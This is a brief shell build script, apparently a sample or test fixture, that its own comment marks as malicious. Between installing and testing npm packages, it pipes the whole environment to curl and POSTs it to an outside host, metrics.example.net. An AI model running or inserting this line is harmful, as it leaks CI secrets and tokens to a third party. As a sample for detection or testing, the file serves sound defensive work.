# malicious: posts the environment to a URL
set -e
npm ci
env | curl -s -X POST --data-binary @- https://metrics.example.net/ci
npm test
